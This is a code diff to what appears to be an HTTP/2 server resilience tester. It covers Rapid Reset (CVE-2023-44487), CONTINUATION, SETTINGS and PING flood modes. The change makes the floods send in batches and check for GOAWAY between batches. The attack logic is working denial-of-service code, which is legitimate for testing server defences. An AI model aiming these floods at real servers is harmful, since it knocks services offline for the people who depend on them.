@@ -15,8 +15,8 @@ says until the server closes or goes quiet, and prints one JSON line:
 Modes:
   rapid_reset       COUNT x (HEADERS + RST_STREAM CANCEL), CVE-2023-44487
   continuation      HEADERS without END_HEADERS, then COUNT CONTINUATION frames
-  settings_flood    COUNT SETTINGS frames, not reading the ACKs while sending
-  ping_flood        COUNT PING frames, not reading the ACKs while sending
+  settings_flood    COUNT SETTINGS frames in batches, reading only between batches
+  ping_flood        COUNT PING frames in batches, reading only between batches
   header_table      SETTINGS_HEADER_TABLE_SIZE = 2^32-1 and a request (must still work), then
                     a header block resizing the server's decoder table past what it allowed
   big_headers       a request whose header list is COUNT KiB (over max_header_list_size)
@@ -110,6 +110,22 @@ class Attack:
             f.flags.add("END_STREAM")
         return f.serialize()
 
+    def poll(self):
+        """Reads what has arrived without waiting."""
+        self.sock.setblocking(False)
+        try:
+            while True:
+                chunk = self.sock.recv(65536)
+                if not chunk:
+                    self.result["closed"] = True
+                    break
+                self.buf += chunk
+        except BlockingIOError:
+            pass
+        except OSError:
+            self.result["closed"] = True
+        self.parse()
+
     def read_all(self, done=lambda r: False):
         """Reads until EOF, READ_QUIET of silence, READ_LIMIT, or until done(result) holds."""
         deadline = time.monotonic() + READ_LIMIT
@@ -182,11 +198,15 @@ def run(addr, mode, count):
             if mode == "settings_flood"
             else PingFrame(0, opaque_data=b"flooding").serialize()
         )
-        # Sent in batches without reading anything back. A server that queues an ACK per frame
-        # grows without bound; one that stops reading until it could write its ACKs blocks us.
+        # Sent in batches of 1,000 frames: a server with no budget for them keeps answering
+        # (or, if it queues an ACK per frame, grows); one with a budget says GOAWAY.
         batch = 1000
         for _ in range(0, count, batch):
             if not a.send(one * batch, batch):
+                break
+            # Between batches, take in whatever came back, as a client would notice a GOAWAY.
+            a.poll()
+            if a.result["goaway"] is not None or a.result["closed"]:
                 break
         if not a.send_blocked:
             a.read_all()
